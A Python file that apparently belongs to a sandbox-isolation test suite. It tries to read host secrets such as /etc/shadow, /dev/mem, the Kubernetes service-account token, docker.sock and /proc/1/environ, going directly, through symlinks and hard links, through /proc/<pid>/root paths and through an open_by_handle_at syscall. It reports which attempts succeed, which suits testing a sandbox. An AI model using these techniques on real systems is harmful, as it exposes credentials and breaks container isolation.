# SPDX-License-Identifier: Apache-2.0
"""Reads files of the host, by their names, by links, by way of other processes' roots."""

import os

from attacking import TOLD, attempt, read, report, syscall

SYSTEM = (
    "/etc/shadow", "/etc/machine-id", "/root/.bashrc", "/proc/kcore", "/proc/kmsg", "/dev/mem",
    "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/kmsg", "/dev/fuse", "/dev/kvm", "/dev/nvidia0", "/proc/1/environ",
    "/sys/kernel/notes", "/var/log/dpkg.log", "/run/secrets/kubernetes.io/serviceaccount/token",
    "/var/run/docker.sock", "/proc/self/attr/../../1/environ",
)  # fmt: skip


def read_link(make, path):
    make(path, "link")
    try:
        return read("link")
    finally:
        os.unlink("link")


def find(path):
    return os.listdir(os.path.dirname(path)).index(os.path.basename(path))


for path in (*TOLD["canaries"], *(SYSTEM if TOLD["in_box"] else ())):
    attempt(f"read {path}", read, path)
    if path in TOLD["canaries"]:
        attempt(f"find {path} in its folder", find, path)
    attempt(f"read by symlink {path}", read_link, os.symlink, path)
    attempt(f"read by hard link {path}", read_link, os.link, path)
    for pid in (1, os.getppid(), "self/../" + str(os.getppid())):
        attempt(f"read by root of {pid} {path}", read, f"/proc/{pid}/root{path}")
handle = bytes([8, 0, 0, 0, 1, 0, 0, 0]) + bytes(8)
attempt("open by handle", syscall, "open_by_handle_at", os.open(".", os.O_RDONLY), handle, os.O_RDONLY)
report()
